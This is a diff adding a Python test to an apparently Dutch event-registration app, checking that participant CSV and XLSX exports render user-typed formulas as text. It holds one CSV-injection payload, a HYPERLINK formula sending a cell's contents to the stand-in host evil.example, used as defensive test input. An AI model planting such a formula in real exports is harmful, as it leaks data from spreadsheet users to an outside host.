@@ -122,6 +122,28 @@ def test_participant_list_exports_match_the_screen_and_hide_names_without_consen
     assert {row[0] for row in rows[1:]} == {deelnemer.full_name, "(naam niet gedeeld)"}
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'
+
+
+def test_what_people_type_stays_text_in_exports_never_a_formula(event, deelnemer,
+                                                                 as_organisator):
+    """A job title typed as a formula must not run in the organiser's spreadsheet: XLSX
+    writes it as text, CSV puts an apostrophe before it (OWASP's advice against CSV
+    injection); other text is as typed."""
+    registrations.register(event.id, deelnemer, RegistrationInput(
+        consent_share_name=True, function=FORMULA, municipality_name="-Huizen"))
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO(
+        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.csv").data.decode("utf-8-sig")),
+        delimiter=";"))
+    assert "'" + FORMULA in rows[1] and "'-Huizen" in rows[1]
+    assert deelnemer.full_name in rows[1] and deelnemer.email in rows[1]
+    sheet = load_workbook(io.BytesIO(
+        as_organisator.get(f"/activiteiten/{event.id}/deelnemers.xlsx").data)).active
+    cells = {cell.value: cell.data_type for cell in sheet[2]}
+    assert cells[FORMULA] == cells["-Huizen"] == cells[deelnemer.full_name] == "s"
+
+
 def test_adding_by_hand_respects_capacity_and_removal_promotes_the_waiting_list(
         event, region, municipality_team, as_organisator, deelnemer):
     people = [make_user(region, f"p{i}@example.org", organisation=municipality_team)
